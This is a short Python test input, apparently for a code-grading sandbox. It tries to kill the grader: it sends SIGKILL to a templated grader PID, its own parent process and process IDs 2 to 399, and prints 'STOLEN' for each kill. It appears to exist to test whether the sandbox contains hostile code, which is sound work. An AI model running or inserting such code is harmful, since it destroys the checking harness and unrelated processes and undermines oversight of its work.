# in: extra
"""Signals everything: the grader's process ids, all numbers, its parents."""
import os, signal
for pid in (@PID@, os.getppid() or 99999, *range(2, 400)):
    if pid != os.getpid():
        try: os.kill(pid, signal.SIGKILL); print("STOLEN", pid)
        except (ProcessLookupError, PermissionError): pass
